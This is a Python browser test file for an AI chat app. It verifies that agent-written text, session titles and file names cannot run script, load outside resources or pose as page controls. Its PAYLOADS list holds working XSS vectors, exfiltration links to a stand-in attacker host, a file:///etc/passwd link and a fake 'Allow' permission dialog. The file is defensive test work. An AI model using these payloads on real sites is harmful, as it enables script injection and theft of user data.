"""What an agent writes, and what others name things, cannot run, load or pass itself off as a part of the page.

Real: Chromium, the built app, the server and its policy. A listener on another loopback address stands for the host of
an attacker; whatever connects to it has leaked.
"""

import asyncio
import re
from collections.abc import AsyncGenerator
from dataclasses import dataclass, field

import httpx2
import pytest
from playwright.async_api import Page, expect
from tests.browser.conftest import SignIn
from tests.browser.steps import conversation, say
from tests.support.server import Server

pytestmark = [pytest.mark.anyio, pytest.mark.browser, pytest.mark.cli]

WATCH = """
window.hacked = [];
window.violations = [];
window.alert = (text) => window.hacked.push(text);
document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));
"""

# Each one line: a message is answered with its own words.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="HOST/pixel">',
    "![picture](HOST/picture?secret=1)",
    "![picture][ref] \n\n[ref]: HOST/reference",
    "<svg onload=alert(1)><image href=HOST/svg></svg>",
    "<iframe src=HOST/frame></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<link rel=stylesheet href=HOST/style>",
    "<style>@import url(HOST/import); * { background: url(HOST/background) }</style>",
    "<meta http-equiv=refresh content='0; url=HOST/refresh'>",
    "<base href=HOST/>",
    "<form action=HOST/form><button>Allow</button></form>",
    "<object data=HOST/object></object><embed src=HOST/embed>",
    "<video poster=HOST/poster src=HOST/video autoplay></video>",
    "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>html link</a>",
    "[script](javascript:alert(1))",
    "[script](&#106;avascript:alert(1))",
    "[script](java\tscript:alert(1))",
    "[data](data:text/html,<script>alert(1)</script>)",
    "[file](file:///etc/passwd)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<div role="alertdialog"><h2>Permission needed</h2><button>Allow</button></div>',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>` **<b onclick=alert(1)>bold</b>**",
    "$$\\href{javascript:alert(1)}{x}$$",
)


@dataclass
class CanaryHost:
    """Counts what reaches it."""

    url: str = ""
    requests: list[str] = field(default_factory=list[str])

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Note one request and answer it with an empty page."""
        self.requests.append((await reader.readuntil(b"\r\n\r\n")).decode())
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\ncontent-type: text/html\r\nconnection: close\r\n\r\n")
        await writer.drain()
        writer.close()


@pytest.fixture
async def canary(anyio_backend: str) -> AsyncGenerator[CanaryHost]:
    host = CanaryHost()
    listener = await asyncio.start_server(host.serve, "127.0.0.2", 0)
    async with listener:
        host.url = f"http://127.0.0.2:{listener.sockets[0].getsockname()[1]}"
        yield host


async def assert_unharmed(page: Page, canary: CanaryHost) -> None:
    assert await page.evaluate("window.hacked") == []
    assert await page.evaluate("window.violations") == []
    assert canary.requests == []


async def test_nothing_an_agent_writes_runs_loads_or_looks_like_the_page(
    sign_in: SignIn, server: Server, canary: CanaryHost
) -> None:
    page = await sign_in()
    await page.add_init_script(WATCH)
    await page.reload()
    # What one message cannot hold, because its words are taken from one line, is in several of its paragraphs.
    everything = "\n\n".join(PAYLOADS).replace("HOST", canary.url)
    await say(page, f"say exactly: {everything} the end")
    answer = page.get_by_test_id("text-block").last
    await expect(answer).to_contain_text("the end")
    await expect(page.get_by_role("button", name="Stop")).to_have_count(0)
    await expect(
        answer.locator("script, img, iframe, object, embed, video, form, style, base, [onerror]")
    ).to_have_count(0)
    await expect(page.get_by_role("button", name="Allow", exact=True)).to_have_count(0)
    await expect(page.get_by_role("alertdialog")).to_have_count(0)
    for link in await answer.get_by_role("link").all():
        assert re.match(r"https?:|mailto:", await link.get_attribute("href") or "")
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    await assert_unharmed(page, canary)
    # The same from the tape.
    await page.reload()
    await expect(page.get_by_test_id("text-block").last).to_contain_text("the end")
    await assert_unharmed(page, canary)


async def test_a_link_says_where_it_leads_and_tells_nobody_where_it_was(sign_in: SignIn, canary: CanaryHost) -> None:
    page = await sign_in()
    await say(page, f"say exactly: [https://bank.example]({canary.url}/bank)")
    answer = page.get_by_test_id("text-block").last
    await expect(answer).to_contain_text(canary.url.removeprefix("http://"))
    async with page.context.expect_page() as opened:
        await answer.get_by_role("link").click()
    await (await opened.value).close()
    # The browser asks for an icon too.
    assert "/bank" in canary.requests[0]
    assert "referer" not in canary.requests[0].lower()


async def test_titles_and_file_names_are_text(sign_in: SignIn, server: Server, canary: CanaryHost) -> None:
    async with server.client() as alice:
        title = f"<img src={canary.url}/title onerror=alert(1)>"
        made = (await alice.post("/api/v1/sessions", json={"title": title})).raise_for_status().json()
        await upload(alice, made["id"], f"<img src={canary.url} onerror=alert(1)>.txt")
    page = await sign_in()
    await page.add_init_script(WATCH)
    await page.goto(f"/s/{made['id']}")
    await expect(page.get_by_role("heading", name=title)).to_be_visible()
    await expect(conversation(page)).to_contain_text("onerror")
    await assert_unharmed(page, canary)


async def upload(client: httpx2.AsyncClient, session_id: str, name: str) -> None:
    path = f"/api/v1/sessions/{session_id}"
    stored = (await client.post(f"{path}/attachments", files={"file": (name, b"x")})).raise_for_status().json()
    body = {"text": "what is in the file", "attachments": [stored["attachment_id"]]}
    (await client.post(f"{path}/messages", json=body)).raise_for_status()


async def test_no_page_of_ours_breaks_the_policy(sign_in: SignIn, canary: CanaryHost) -> None:
    page = await sign_in()
    await page.add_init_script(WATCH)
    await page.reload()
    await say(page, "show me some writing")
    # Colours mean that the highlighter has been loaded and has run.
    await expect(conversation(page).locator("pre span[style]").first).to_be_visible()
    await assert_unharmed(page, canary)
